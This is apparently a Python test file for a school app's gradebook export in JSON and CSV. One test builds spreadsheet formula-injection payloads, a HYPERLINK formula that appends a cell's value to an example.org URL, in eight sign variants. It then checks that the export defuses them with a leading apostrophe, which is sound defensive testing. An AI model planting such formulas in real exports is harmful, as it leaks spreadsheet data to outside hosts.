"""The gradebook of a class: JSON, and CSV that every spreadsheet reads and none takes for a formula."""

import asyncio
import csv
import io
import sys
from pathlib import Path
from typing import Any

import httpx2
import psycopg
import pytest

from app.commands.create_teacher import create_teacher
from tests.web.conftest import LATER, PASSWORD, Assay, School, settings_of
from tests.web.load import fill
from tests.web.school import hand_in
from tests.web.serve_process import serving

MOST_MB = 50


async def as_csv(assay: Assay, path: str, who: str, separator: str = ",") -> list[list[str]]:
    """What a program that knows RFC 4180 reads; the mark at the beginning says that it is UTF-8."""
    headers = {"Authorization": f"Bearer {who}", "Accept": "text/csv"}
    answer = await assay.client.get(path, headers=headers)
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    text = answer.content.decode()
    assert text.endswith("\r\n")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), strict=True, delimiter=separator))


def by_hand(url: str, statement: str, *values: object) -> Any:
    """The first column of the first row."""
    with psycopg.connect(url, autocommit=True) as admin:
        return (admin.execute(statement.encode(), values).fetchone() or (None,))[0]


TASK = """
    insert into assay.assignments (teacher_id, class_id, title, instructions, correction_template, max_score, deadline,
                                   published_at)
    select c.teacher_id, c.id, %s, 'Write.', 'Look.', 30, now() + interval '1 hour', now()
      from assay.classes c where c.id = %s
    returning id"""
PUPIL = """
    with made as (insert into assay.students (name, email, password_hash, email_verified_at)
                  values (%s, %s, 'none', now()) returning id)
    insert into assay.enrolments (class_id, student_id) select %s, id from made returning student_id"""


async def test_students_without_a_text_have_empty_cells_and_totals_are_sums(assay: Assay, school: School) -> None:
    book = f"/teacher/classes/{school.class_id}/gradebook"
    await hand_in(assay, school)
    task = str(by_hand(assay.url, TASK, "Silver", school.class_id))
    bo = by_hand(assay.url, PUPIL, "Bo", "bo@school.example", school.class_id)
    by_hand(
        assay.url,
        "insert into assay.submissions (student_id, assignment_id, content, score)"
        " select s.id, %s, 'Silver.', 0 from assay.students s where s.name = 'Anna' returning id",
        task,
    )
    gold = school.assignment["id"]
    told = await assay.ask("GET", book, school.teacher)
    assert told["class"] == {"id": school.class_id, "name": "9B"}
    assert [(one["id"], one["max_score"]) for one in told["assignments"]] == [(task, 30), (gold, 20)]  # by deadline
    assert [(one["name"], one["scores"], one["total"]) for one in told["students"]] == [
        ("Anna", {task: 0, gold: 12}, 12),
        ("Bo", {task: None, gold: None}, 0),
    ]
    assert told["students"][1]["id"] == str(bo)
    assert await as_csv(assay, book, school.teacher) == [
        ["student", "email", "Silver", "Gold", "total"],
        ["Anna", "anna@school.example", "0", "12", "12"],
        ["Bo", "bo@school.example", "", "", "0"],
    ]


async def test_a_gradebook_holds_the_assignments_of_its_class_and_those_of_all(assay: Assay, school: School) -> None:
    other = await assay.ask("POST", "/teacher/classes", school.teacher, 201, json={"name": "7A"})
    by_hand(assay.url, TASK, "Silver", other["id"])
    gone = by_hand(assay.url, TASK, "Lead", school.class_id)
    await assay.ask("DELETE", f"/teacher/assignments/{gone}", school.teacher, 204)
    here = await assay.ask("GET", f"/teacher/classes/{school.class_id}/gradebook", school.teacher)
    there = await assay.ask("GET", f"/teacher/classes/{other['id']}/gradebook", school.teacher)
    assert [one["title"] for one in here["assignments"]] == ["Gold"]
    assert [one["title"] for one in there["assignments"]] == ["Silver", "Gold"]
    assert there["students"] == []
    assert await as_csv(assay, f"/teacher/classes/{other['id']}/gradebook", school.teacher) == [
        ["student", "email", "Silver", "Gold", "total"]
    ]


async def test_a_cell_that_a_spreadsheet_would_run_is_text(assay: Assay, school: School) -> None:
    formulas = [
        f'{sign}HYPERLINK("http://example.org/?"&A1,"x")' for sign in "=+-@＝＋－＠"
    ]  # titles and names hold no tab or line break
    for number, formula in enumerate(formulas):
        by_hand(assay.url, PUPIL, formula, f"+{number}@school.example", school.class_id)
        by_hand(assay.url, TASK, formula, school.class_id)
    head, *lines = await as_csv(assay, f"/teacher/classes/{school.class_id}/gradebook", school.teacher)
    told = {*head, *(cell for line in lines for cell in line)}
    assert {"'" + formula for formula in formulas} < told
    assert {f"'+{number}@school.example" for number in range(len(formulas))} < told
    assert {cell[0] for cell in told if cell} & set("=+-@＝＋－＠") == set()


async def test_every_column_has_a_head_of_its_own(assay: Assay, school: School) -> None:
    titles = (
        "email",
        "Total",
        "total (2)",
        "Gold",
        "gold",
        "Gold (2)",
        "gold (1)",
        "=Gold",
        "'=Gold",
        "Gold: Facts",
        "ÅR",
    )
    for title in (*titles, *titles[5:]):
        by_hand(assay.url, TASK, title, school.class_id)
    rubric = [{"title": title, "prompt": "x", "max_score": 1} for title in ("Facts", "facts", "Facts (2)", "(2)")]
    for _ in range(2):
        sent = {"instructions": "Write.", "deadline": LATER, "title": "Gold", "rubric": rubric}
        await assay.ask("POST", "/teacher/assignments", school.teacher, 201, json=sent)
    path = f"/teacher/classes/{school.class_id}/gradebook"
    for query, columns in (("", 3 + 1 + 17 + 2), ("?criteria=true", 3 + 1 + 17 + 2 + 8)):
        (head, *_) = await as_csv(assay, path + query, school.teacher)
        assert len({one.lower() for one in head}) == len(head) == columns


async def test_a_gradebook_may_be_parted_by_semicolons_and_takes_no_other_parameter(
    assay: Assay, school: School
) -> None:
    book = f"/teacher/classes/{school.class_id}/gradebook"
    lines = await as_csv(assay, book + "?separator=semicolon", school.teacher, ";")
    assert lines[0] == ["student", "email", "Gold", "total"]
    for query in ("separator=tab", "limit=5", "seperator=semicolon"):
        await assay.refused("validation_failed", "GET", f"{book}?{query}", school.teacher)


async def test_quotes_commas_and_semicolons_stay_in_their_cells(assay: Assay, school: School) -> None:
    title, name = 'The "gold", and the silver; a list', 'Åsa "Ace" Öberg, the 2nd 🥇'
    by_hand(assay.url, TASK, title, school.class_id)
    by_hand(assay.url, PUPIL, name, "asa@school.example", school.class_id)
    lines = await as_csv(assay, f"/teacher/classes/{school.class_id}/gradebook", school.teacher)
    assert lines[0] == ["student", "email", title, "Gold", "total"]
    assert [line[0] for line in lines[1:]] == ["Anna", name]
    assert {len(line) for line in lines} == {5}


async def test_a_gradebook_without_anybody_or_anything_is_empty(assay: Assay) -> None:
    tove = await assay.teacher(keys=False)
    made = await assay.ask("POST", "/teacher/classes", tove, 201, json={"name": "Nobody, yet"})
    book = f"/teacher/classes/{made['id']}/gradebook"
    told = await assay.ask("GET", book, tove)
    assert told == {"class": {"id": made["id"], "name": "Nobody, yet"}, "assignments": [], "students": []}
    assert await as_csv(assay, book, tove) == [["student", "email", "total"]]
    answer = await assay.client.head(book, headers={"Authorization": f"Bearer {tove}"})
    assert int(answer.headers["content-length"]) > 0


def resident(pid: int, line: str) -> float:
    """A line of the process's status, in MB."""
    status = Path(f"/proc/{pid}/status").read_text("ascii")
    return int(status.partition(f"{line}:")[2].split()[0]) / 1024


@pytest.mark.slow
@pytest.mark.skipif(sys.platform != "linux", reason="reads /proc")
async def test_a_hundred_thousand_cells_cost_the_api_less_than_fifty_megabytes(db: str, tmp_path: Path) -> None:
    """2,000 students, 50 assignments, names that Python keeps at four bytes a letter; four such answers at once."""
    local = settings_of(database_url=db)
    await asyncio.to_thread(create_teacher, local, "Tove", "tove@school.example", PASSWORD)
    async with (
        serving(db, tmp_path, "--no-worker", "--no-migrate") as served,
        httpx2.AsyncClient(base_url=served.url, trust_env=False, timeout=300) as client,
    ):
        login = await client.post("/auth/login", json={"email": "tove@school.example", "password": PASSWORD})
        client.headers["Authorization"] = f"Bearer {login.json()['token']}"
        made = (await client.post("/teacher/classes", json={"name": "Everybody"})).json()
        await asyncio.to_thread(fill, db, made["id"], 2000, 50, "Åsa 🥇")
        before, pid = resident(served.process.pid, "VmRSS"), served.process.pid
        Path(f"/proc/{pid}/clear_refs").write_text("5", "ascii")  # the peak is counted from now on
        book = f"/teacher/classes/{made['id']}/gradebook"
        kinds = ["application/json", "text/csv"] * 2
        answers = await asyncio.gather(*(client.get(book, headers={"Accept": kind}) for kind in kinds))
        more = resident(pid, "VmHWM") - before
        assert [answer.status_code for answer in answers] == [200] * len(kinds)
        told = answers[0].json()
        assert (len(told["students"]), len(told["assignments"])) == (2000, 50)
        assert {one["total"] for one in told["students"]} == {2500}
        assert answers[1].text.count("\r\n") == 2001
        assert more < MOST_MB, f"{more:.0f} MB more"
        assert await served.ended() == 0
